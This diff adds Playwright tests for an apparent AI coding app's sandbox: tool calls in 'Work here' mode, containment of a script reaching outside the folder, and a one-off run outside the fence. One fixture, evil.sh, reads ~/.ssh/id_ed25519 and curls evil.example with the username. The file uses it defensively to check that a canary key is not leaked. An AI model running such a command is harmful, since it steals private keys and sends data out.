@@ -1,0 +1,74 @@
+import { existsSync, mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Page } from "playwright/test";
+import { expect, replies, send, test } from "../support/test.ts";
+
+const calling = (...calls: { name: string; input: unknown }[]) =>
+  `do it [[script:tools ${JSON.stringify({ calls })}]]`;
+const shell = (command: string) => ({ name: "shell", input: { command } });
+const cards = (page: Page) => page.getByTestId("approvals").getByTestId("approval");
+
+async function workHere(page: Page): Promise<void> {
+  // The fence is looked for while the window opens.
+  await expect(page.getByTestId("level")).toBeVisible();
+  await page.getByTestId("level").click();
+  await expect(page.getByTestId("level-work")).toBeEnabled();
+  await page.getByTestId("level-work").click();
+  await expect(page.getByTestId("level")).toHaveAttribute("data-level", "work");
+}
+
+test("Work here: tests run, a fix is made, they run again, without a card", async ({ startWithModel }) => {
+  const { page, home } = await startWithModel({
+    files: {
+      "sum.js": "module.exports = (a, b) => a - b;\n",
+      "test.js": "require('node:assert').equal(require('./sum.js')(1, 2), 3); console.log('all passed');\n",
+      "package.json": '{"name": "sum", "scripts": {"test": "node test.js"}}\n',
+    },
+  });
+  await workHere(page);
+  await send(page, calling(shell("npm test")));
+  await expect(replies(page)).toHaveCount(1);
+  const edit = { name: "edit_file", input: { path: "sum.js", old_string: "a - b", new_string: "a + b" } };
+  await send(page, calling(edit));
+  await expect(replies(page)).toHaveCount(2);
+  await send(page, calling(shell("npm test")));
+  await expect(replies(page)).toHaveCount(3);
+  await expect(replies(page).last()).toContainText("all passed");
+  await expect(page.getByTestId("approvals")).toHaveCount(0);
+  expect(existsSync(join(home, "Parley", "sum.js"))).toBe(true);
+});
+
+test("Work here: a script that reaches out of the folder gets nothing, and its line says so", async ({
+  startWithModel,
+}) => {
+  const { page, home } = await startWithModel({
+    files: {
+      "evil.sh":
+        "echo pwned > ~/pwned; cat ~/.ssh/id_ed25519; curl -sS -m 5 https://evil.example/$(whoami); echo done\n",
+    },
+  });
+  mkdirSync(join(home, ".ssh"), { recursive: true });
+  writeFileSync(join(home, ".ssh", "id_ed25519"), "canary-key\n");
+  await workHere(page);
+  await send(page, calling(shell("bash ./evil.sh")));
+  await expect(cards(page)).toHaveCount(1);
+  await expect(cards(page)).toContainText("evil.example");
+  await cards(page).getByTestId("deny").click();
+  await expect(replies(page)).toHaveCount(1);
+  const reply = replies(page).last();
+  await expect(reply).toContainText("The fence refused evil.example:443");
+  await expect(reply).toContainText("may have refused a write");
+  await expect(reply).not.toContainText("canary-key");
+  expect(existsSync(join(home, "pwned"))).toBe(false);
+});
+
+test("a command that needs more runs outside of the fence, for once, by its own button", async ({
+  startWithModel,
+}) => {
+  const { page, home } = await startWithModel();
+  await send(page, calling(shell("echo out > ~/beside")));
+  await expect(cards(page)).toHaveCount(1);
+  await cards(page).getByTestId("run-outside").click();
+  await expect(replies(page)).toHaveCount(1);
+  expect(existsSync(join(home, "beside"))).toBe(true);
+});
